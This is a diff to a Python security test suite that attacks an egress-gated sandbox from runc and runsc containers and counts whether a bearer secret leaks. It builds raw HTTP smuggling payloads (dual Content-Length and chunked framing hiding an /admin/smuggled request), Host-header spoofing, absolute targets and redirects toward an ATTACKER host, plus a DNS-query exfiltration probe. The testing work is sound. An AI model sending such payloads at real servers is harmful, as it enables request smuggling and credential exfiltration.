@@ -6,41 +6,57 @@ frames in the neighbour, kernel doors, and the secret anywhere but where its own
 
 import json
 import time
-from collections.abc import Iterator, Sequence
+from collections.abc import Iterable, Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack, contextmanager
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 from opensandbox.exceptions import SandboxException
 
 from demo import raw_client
-from demo.attempts import Evidence, FarEnd, Report, arrived, report
+from demo.attempts import Evidence, FarEnd, ProbeError, Report, arrived, report
 from demo.capture import Capture
 from demo.far_end import GATEWAY_CANARY_PORTS, control_targets, end, probe_environment, sandbox_targets
-from demo.internet import ADDRESSES, API, ATTACKER, DNS_ADDRESS, METADATA_ADDRESS, Internet
+from demo.internet import ADDRESSES, API, ATTACKER, DNS_ADDRESS, METADATA_ADDRESS, STATUS, Internet
 from demo.leaks import forms_of, leaks_in
 from demo.privileged import PrivilegedContainer
-from demo.raw_attacks import Attack
+from demo.raw_attacks import MARK, Attack
 from demo.sandboxes import _nsenter
+from demo.stack import IMAGE
 from demo.ungate import far_end_of
 from lifecycle.posture import ways_out
 from lifecycle.posture.ways_out import MARKER
-from tests.security.layers.stack import POLICY, LayeredStack
+from tests.security.layers.stack import POLICY, LayeredStack, wait_until
 from tests.security.layers.substitutes import FAILING, PLANTED, UNJUDGED, UNRECORDED
 
 RUNTIMES = ("runc", "runsc")
 SETTLE_SECONDS, SETTLED_AT_MOST = 0.3, 6.0
+UNANSWERED_SECONDS = 2.0
 OUTSIDE = "the secret outside of its binding"
 RETURNED = "the secret in an answer"
 UNJUDGED_ARRIVES = "a request that nobody judged"
 PLANTED_ARRIVES = "a file of the host at the attacker"
+FOREIGN_HOST = "a foreign Host"
+IMPOSTOR = "a request at the server of another name"
+ABSOLUTE = "a target of another host"
+AMBIGUOUS = "a request with two framings"
+UNRECORDED_ARRIVES = "a request without a record"
+UNPLANNED = "a question of a container without a plan"
+HONEST = (f"/v1/honest?{MARK}", f"/v1/honest-last?{MARK}")
+"""The first request with a secret, and the last of the sandbox's own: each must be answered, of each sandbox."""
+OWN_HOST, OWN_TARGET, OTHER_SERVER = "/v1/own-host", "/v1/own-target", "/v1/other-server"
+FRAMING, SMUGGLED = "/v1/framing", "/admin/smuggled"
+LIAR = "foreign.bank.example"
+"""Its owner says that it is at another host's server, which has no certificate for it."""
 FIRST, DELETED = "/v1/first", "/v1/deleted"
 """Where the forbidden method goes: before any secret was released to the worker, and after."""
 
 
 def _get(path: str, host: str = API, method: str = "GET") -> str:
+    """A request that ends its connection."""
     return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close")) + "\r\n\r\n"
 
 
@@ -53,10 +69,17 @@ def _attacks() -> Iterator[Attack]:
     yield Attack("the bound Host in clear", (_get("/v1/x"),), None, ATTACKER, 80)
     yield Attack("an absolute target", (_get(f"https://{ATTACKER}/v1/absolute"),))
     yield Attack("an absolute target in clear", (_get(f"http://{ATTACKER}/v1/x"),), None, ATTACKER, 80)
+    yield Attack("an absolute target of its own", (_get(f"https://{API}{OWN_TARGET}"),))
+    yield Attack("another spelling of its Host", (_get(OWN_HOST, f"{API.upper()}:443"),))
+    yield Attack("the server of another name", (_get(OTHER_SERVER, LIAR),), LIAR, STATUS)
     yield Attack("a redirect", (_get("/v1/redirect?to=attacker&status=302"),))
-    smuggled = f"0\r\n\r\n{_get('/admin/smuggled')}"
-    framing = (f"POST /v1/framing HTTP/1.1\r\nHost: {API}\r\n", "Transfer-Encoding: chunked\r\n")
-    yield Attack("two framings", (f"{framing[0]}Content-Length: {len(smuggled)}\r\n{framing[1]}\r\n{smuggled}",))
+    # Read in chunks it is one request, and two by its length.
+    smuggled = _get(SMUGGLED)
+    size = f"{len(smuggled):x}\r\n"
+    framings = f"Content-Length: {len(size)}\r\nTransfer-Encoding: chunked\r\n"
+    yield Attack(
+        "two framings", (f"POST {FRAMING} HTTP/1.1\r\nHost: {API}\r\n{framings}\r\n{size}{smuggled}\r\n0\r\n\r\n",)
+    )
     yield from (Attack(path, (_get(path),)) for path in (UNJUDGED, FAILING, UNRECORDED))
     for form in ("plain", "json", "gzip"):
         yield Attack(f"an echo, {form}", (_get(f"/v1/echo?form={form}"),))
@@ -68,40 +91,74 @@ def _attacks() -> Iterator[Attack]:
 
 BATCHES = (
     (Attack("another method first", (_get(FIRST, method="DELETE"),)),),
-    (Attack("honest", (_get("/v1/honest"),)),),
+    (Attack(HONEST[0], (_get(HONEST[0]),)),),
     tuple(_attacks()),
+    (Attack(HONEST[1], (_get(HONEST[1]),)),),
 )
 """One batch after the other; the attacks of one at the same time."""
 
 
 @dataclass(frozen=True, slots=True)
+class Request:
+    """One that a server received; `hosts` are its Host headers."""
+
+    server: str
+    method: str
+    target: str
+    hosts: tuple[str, ...]
+    framings: int
+    """How many of the two ways to say where its body ends it has."""
+
+
+@dataclass(frozen=True, slots=True)
 class Seen:
-    """What one sandbox's suite brought to light. `refused`: why there was no sandbox at all."""
+    """What one sandbox's suite brought to light.
+
+    Attributes:
+        refused: why there was no sandbox at all.
+        alive: the worker that was there at the beginning was there at the end.
+        honest: all honest requests came to their server with the secret, and were answered in the sandbox.
+        requests: what servers received.
+        outside: targets of the requests that had the secret outside of its binding.
+    """
 
     leaks: dict[str, int] = field(default_factory=dict)
     refused: str = ""
+    alive: bool = False
+    honest: bool = False
     answers: dict[str, str] = field(default_factory=dict)
-    requests: tuple[tuple[str, str, str], ...] = ()
-    """Host, method and target of each request that a server received."""
+    requests: tuple[Request, ...] = ()
     outside: tuple[str, ...] = ()
-    """Targets of the requests that had the secret outside of its binding."""
 
-    @property
-    def held(self) -> bool:
-        return not self.leaks
+
+@dataclass(frozen=True, slots=True)
+class Attempts:
+    """What is tried beside the exact bytes.
+
+    Attributes:
+        ways: the ways out, by the workload.
+        beside: the ways out, by a privileged container in the sandbox's network.
+        unplanned: a container that no plan is for, in the sandbox's network.
+        apart: from one runtime after another: much is expected to arrive, and it must be told whose it is.
+        answers: the worker is there to answer connections; where it cannot be reached, each would wait for its time.
+    """
+
+    ways: bool = True
+    beside: bool = True
+    unplanned: bool = True
+    apart: bool = False
+    answers: bool = True
 
 
 class Pair:
     """A sandbox on each runtime, made under the present switches."""
 
-    def __init__(
-        self, internet: Internet, stack: LayeredStack, secret: str, runtimes: tuple[str, ...] = RUNTIMES
-    ) -> None:
-        self.internet, self.stack, self._secret = internet, stack, secret
+    def __init__(self, internet: Internet, stack: LayeredStack, secret: str, attempts: Attempts = Attempts()) -> None:
+        self.internet, self.stack, self._secret, self._attempts = internet, stack, secret, attempts
         self.first_note = len(notes(internet))
-        with ThreadPoolExecutor(len(runtimes)) as pool:
-            made = pool.map(self._make, runtimes)
-        self.sandboxes: dict[str, Any] = dict(zip(runtimes, made, strict=True))
+        with ThreadPoolExecutor(len(RUNTIMES)) as pool:
+            made = pool.map(self._make, RUNTIMES)
+        self.sandboxes: dict[str, Any] = dict(zip(RUNTIMES, made, strict=True))
         self.seen: dict[str, Seen] = {}
 
     def _make(self, runtime: str) -> Any:
@@ -125,12 +182,10 @@ class Pair:
                 sandbox.kill()
                 sandbox.close()
 
-    def attack(self, *, apart: bool = False) -> dict[str, Seen]:
-        """Run the suite from both sandboxes at once; when anything arrives, again from each, to tell whose it was.
-
-        A sandbox that was never made is held, by whoever refused it.
-        """
+    def attack(self) -> dict[str, Seen]:
+        """Run the suite from both sandboxes at once; when anything arrives, again from each, to tell whose it was."""
         made = [runtime for runtime, sandbox in self.sandboxes.items() if not isinstance(sandbox, str)]
+        apart = self._attempts.apart
         seen = self._attack(made) if made and not apart else {}
         if apart or (len(made) > 1 and any(one.leaks for one in seen.values())):
             seen = {runtime: self._attack([runtime])[runtime] for runtime in made}
@@ -152,6 +207,7 @@ class Pair:
                 gateway = self.stack.netns(name, "gw")
                 resources.callback(end, internet.start_canary(gateway, f"gateway-{name}", *GATEWAY_CANARY_PORTS))
             first, host = len(notes(internet)), _host_hits(internet)
+            workers = {name: self._worker(name) for name in every}
             gateways = {name: internet.canary_hits(f"gateway-{name}") for name in every}
             with ThreadPoolExecutor(len(runtimes)) as pool:
                 ran = dict(zip(runtimes, pool.map(self._run, runtimes), strict=True))
@@ -170,38 +226,80 @@ class Pair:
                 counts[FarEnd.NEIGHBOUR.value] = sum(_marker(runtime) in frame.data for frame in neighbours)
                 counts |= {OUTSIDE: len(outside)} | self._returned(noted[first:], answers)
                 counts[PLANTED_ARRIVES] = sum(PLANTED in json.dumps(note) for note in noted[self.first_note :])
-                requests = [note for note in noted[first:] if "target" in note]
+                counts[UNPLANNED] = sum(note.get("question") == _unplanned_name(own) for note in internet.notes())
+                requests = tuple(_request(note) for note in noted[first:] if "target" in note)
                 found[runtime] = Seen(
-                    {what: count for what, count in counts.items() if count},
-                    "",
-                    answers,
-                    tuple((str(note["host"]), str(note["method"]), str(note["target"])) for note in requests),
-                    tuple(str(note.get("target", "")) for note in outside),
+                    {what: count for what, count in (counts | misread(requests)).items() if count},
+                    alive=workers[own] is not None and self._worker(own) == workers[own],
+                    honest=self._honest(runtime, noted[first:], answers),
+                    answers=answers,
+                    requests=requests,
+                    outside=tuple(str(note.get("target", "")) for note in outside),
                 )
         return found
 
+    def _worker(self, sandbox: str) -> int | None:
+        """The process that is the sandbox's worker now."""
+        pid = self.stack.host("inspect", sandbox=sandbox)["worker_pid"]
+        return int(pid) if pid and Path(f"/proc/{pid}/exe").exists() else None
+
+    def _honest(self, runtime: str, noted: list[dict[str, Any]], answers: dict[str, str]) -> bool:
+        token = ["Authorization", f"Bearer {self._secret}"]
+        came = {note.get("target") for note in noted if note["host"] == API and token in note.get("headers", ())}
+        return all(
+            path.replace(MARK, runtime) in came and answers.get(path, "").startswith("HTTP/1.1 200") for path in HONEST
+        )
+
     def _run(self, runtime: str) -> tuple[Report, dict[str, str]]:
-        """The workload's attempts and the exact bytes, all at once; then those of a privileged container."""
+        """The workload's attempts and the exact bytes, all at once; then those of containers beside it.
+
+        What a sandbox whose worker dies cannot say any more is missing.
+        """
+        netns, worker = self.stack.netns(self.id(runtime), "sbx"), self._worker(self.id(runtime))
+        with ExitStack() as resources:
+            beside = PrivilegedContainer(netns, _targets(runtime), "192.0.2.1")
+            if self._attempts.beside:
+                resources.enter_context(beside)
+            try:
+                saw, answers = self._workload(runtime)
+            except (SandboxException, ProbeError):
+                wait_until(lambda: self._worker(self.id(runtime)) != worker, 10)  # only its worker's death excuses it
+                saw, answers = {}, {}
+            # Not before: on runsc the address that the containers need makes the host answer for the sandbox.
+            resources.enter_context(_address_restored(netns))
+            pool = resources.enter_context(ThreadPoolExecutor(1))
+            unplanned = pool.submit(self._unplanned, self.id(runtime)) if self._attempts.unplanned else None
+            if self._attempts.beside:
+                beside.attempt("all")
+            if unplanned is not None:
+                unplanned.result()
+        return saw, answers
+
+    def _unplanned(self, sandbox: str) -> None:
+        """Start a container without a plan in the sandbox's network, as root on the host may: it asks for a name."""
+        network = f"container:{self.stack.host('inspect', sandbox=sandbox)['container']}"
+        message = ways_out.query(_unplanned_name(sandbox))
+        code = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({message!r}, ('192.0.2.1', 53))"
+        start = ("run", "--rm", "--runtime", "sallyport-runc", "--network", network, IMAGE)
+        self.stack.docker(*start, "python3", "-c", code)
+
+    def _workload(self, runtime: str) -> tuple[Report, dict[str, str]]:
         sandbox = self.sandboxes[runtime]
         for module in (ways_out, raw_client):
             path = Path(str(module.__file__))
             sandbox.files.write_file(f"/tmp/{path.name}", path.read_text())
-        for at, batch in enumerate(BATCHES):
-            sandbox.files.write_file(f"/tmp/{at}.json", json.dumps({one.name: one.case("") for one in batch}))
+        patience = {} if self._attempts.answers else {"patience": UNANSWERED_SECONDS}
+        batches = [{one.name: one.case(runtime) | patience for one in batch} for batch in BATCHES]
+        sandbox.files.write_file("/tmp/batches.json", json.dumps(batches))
         sandbox.files.write_file("/tmp/targets.json", probe_environment(_targets(runtime)))
-        netns = self.stack.netns(str(sandbox.id), "sbx")
+        every = 'PROBE_TARGETS="$(cat /tmp/targets.json)" python3 /tmp/ways_out.py one all'
         done = sandbox.commands.run(
-            "for at in 0 1 2; do python3 /tmp/raw_client.py </tmp/$at.json >/tmp/$at.results; done & "
-            'PROBE_TARGETS="$(cat /tmp/targets.json)" python3 /tmp/ways_out.py one all; status=$?; wait; exit $status'
+            "python3 /tmp/raw_client.py </tmp/batches.json >/tmp/results.json & "
+            f"{every if self._attempts.ways else ':'}; status=$?; wait; exit $status"
         )
         printed = "".join(message.text for message in (*done.logs.stdout, *done.logs.stderr))
-        results: dict[str, dict[str, Any]] = {}
-        for at in range(len(BATCHES)):
-            results |= json.loads(sandbox.files.read_file(f"/tmp/{at}.results"))
-        # Not at the same time: on runsc the address that the container needs makes the host answer for the sandbox.
-        with _address_restored(netns), PrivilegedContainer(netns, _targets(runtime), "192.0.2.1") as container:
-            container.attempt("all")
-        saw = report("all", done.exit_code, printed)
+        saw = report("all", done.exit_code, printed) if self._attempts.ways else {}
+        results: dict[str, dict[str, Any]] = json.loads(sandbox.files.read_file("/tmp/results.json"))
         return saw, {name: str(result["received"]) for name, result in results.items()}
 
     def _outside(self, noted: list[dict[str, Any]]) -> list[dict[str, Any]]:
@@ -231,7 +329,33 @@ def _targets(runtime: str) -> dict[str, object]:
 
 
 def _bound(note: dict[str, Any]) -> bool:
-    return note.get("method") in ("GET", "POST") and str(note.get("target")).startswith("/v1/")
+    target = urlsplit(str(note.get("target")))
+    return note.get("method") in ("GET", "POST") and target.hostname in (None, API) and target.path.startswith("/v1/")
+
+
+def _unplanned_name(sandbox: str) -> str:
+    """A name below the zone that the policy allows."""
+    return f"{sandbox.replace('-', '')[:12]}.cdn.bank.example"
+
+
+def _request(note: dict[str, Any]) -> Request:
+    names = [str(name).lower() for name, _ in note["headers"]]
+    hosts = tuple(str(value) for name, value in note["headers"] if str(name).lower() == "host")
+    framings = sum(one in names for one in ("content-length", "transfer-encoding"))
+    return Request(str(note["host"]), str(note["method"]), str(note["target"]), hosts, framings)
+
+
+def misread(requests: Iterable[Request]) -> dict[str, int]:
+    """How many requests came to their server as something else than what was judged."""
+    at_api = [one for one in requests if one.server == API]
+    named = [urlsplit(one.target).hostname for one in at_api]
+    return {
+        FOREIGN_HOST: sum(host.lower().partition(":")[0] != API for one in at_api for host in one.hosts),
+        IMPOSTOR: sum(one.target == OTHER_SERVER for one in requests),
+        ABSOLUTE: sum(host not in (None, API) for host in named),
+        AMBIGUOUS: sum(one.framings > 1 or one.target == SMUGGLED for one in at_api),
+        UNRECORDED_ARRIVES: sum(one.target == UNRECORDED for one in at_api),
+    }
 
 
 def _host_hits(internet: Internet) -> int:
